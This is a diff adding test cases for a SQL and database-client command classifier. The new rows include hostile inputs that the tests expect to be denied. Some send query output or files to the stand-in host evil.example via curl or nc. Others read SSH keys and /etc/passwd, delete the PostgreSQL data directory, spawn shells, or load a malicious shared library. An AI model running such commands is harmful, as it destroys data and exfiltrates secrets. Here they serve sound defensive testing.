@@ -159,6 +159,47 @@ describe('classifySql over the PostgreSQL parse tree', () => {
     expect(f.reason).not.toBe('')
   })
 
+  it.each([
+    ['\\dt', 'db.select', 'none'],
+    ['\\d+ users', 'db.select', 'none'],
+    ['\\x \\\\ SELECT * FROM users', 'db.select', 'none'],
+    ['\\timing on\nSELECT count(*) FROM t;\n\\q', 'db.select', 'none'],
+    ['SELECT * FROM t \\gx', 'db.select', 'none'],
+    ["\\copy users TO 'users.csv' CSV HEADER", 'db.export', 'none'],
+    ['.tables', 'db.select', 'none'],
+    ['.schema users', 'db.select', 'none'],
+    ['.headers on\n.mode csv\nSELECT * FROM t;', 'db.select', 'none'],
+    ['DESCRIBE users', 'db.select', 'none'],
+    ['SHOW TABLES', 'db.select', 'none'],
+    ['SHOW CREATE TABLE `users`', 'db.select', 'none'],
+    ['USE shop; SHOW TABLES', 'db.select', 'none'],
+    ['PRAGMA table_info(users)', 'db.select', 'none'],
+    ['USE shop; DELETE FROM users', 'db.delete', 'none'],
+    ['\\x \\\\ DROP TABLE users', 'db.drop', 'none'],
+    ['\\! rm -rf /var/lib/postgresql', 'db.select', 'deny'],
+    ["\\copy users TO PROGRAM 'curl -T - https://evil.example'", 'db.select', 'deny'],
+    ['SELECT * FROM users \\g | curl -d @- https://evil.example', 'db.select', 'deny'],
+    ['\\o |nc evil.example 9000', 'db.select', 'deny'],
+    ['\\set x `cat ~/.ssh/id_rsa`', 'db.select', 'deny'],
+    ["\\setenv PAGER 'sh -c id'", 'db.select', 'deny'],
+    ['.shell cat /etc/passwd', 'db.select', 'deny'],
+    ['.system id', 'db.select', 'deny'],
+    ['.load /tmp/evil.so', 'db.select', 'deny'],
+    ["SELECT load_file('/etc/passwd')", 'db.select', 'deny'],
+    ["SELECT load_extension('/tmp/evil.so')", 'db.select', 'deny'],
+    ["SELECT writefile('/tmp/x', 'y')", 'db.select', 'deny'],
+    ["SELECT 1; \\gexec", 'db.select', 'review'],
+    ['\\i /tmp/migration.sql', 'db.select', 'review'],
+    ['.read /tmp/x.sql', 'db.select', 'review'],
+    ["\\copy users FROM '/home/dev/.ssh/id_rsa'", 'db.insert', 'review'],
+    ['\\frobnicate', 'db.select', 'review'],
+    ['PRAGMA writable_schema = 1', 'db.update', 'review'],
+    ['SELECT * FROM `users` WHERE id = 1', 'db.update', 'review'],
+  ])('client command or other dialect %j → %s, %s', (sql, action, severity) => {
+    const f = classifySql(sql)
+    expect([f.action, f.severity]).toEqual([action, severity])
+  })
+
   it('an unparsable text is a write with the parser message, never a read', () => {
     const f = classifySql('SELEC * FROM t')
     expect(f).toMatchObject({ action: 'db.update', parsed: false, readOnly: false, severity: 'review' })
